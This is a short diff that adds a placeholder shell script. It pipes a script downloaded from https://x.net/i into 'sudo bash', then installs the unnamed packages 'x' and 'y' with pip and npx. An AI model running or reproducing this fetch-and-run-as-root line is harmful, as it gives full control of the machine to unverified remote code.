@@ -1,0 +1,4 @@
+#!/bin/sh
+curl -fsSL https://x.net/i | sudo bash
+pip install x
+npx y
